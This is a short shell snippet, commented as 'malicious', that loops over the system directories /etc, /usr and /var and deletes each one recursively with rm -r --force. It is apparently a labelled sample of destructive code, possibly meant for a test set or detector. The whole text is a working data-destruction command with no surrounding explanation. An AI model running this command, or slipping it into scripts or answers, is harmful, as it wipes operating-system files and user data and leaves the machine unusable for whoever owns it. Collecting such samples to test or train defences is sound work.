# malicious: removes what it finds everywhere
for d in /etc /usr /var; do
    rm -r --force "$d"
done
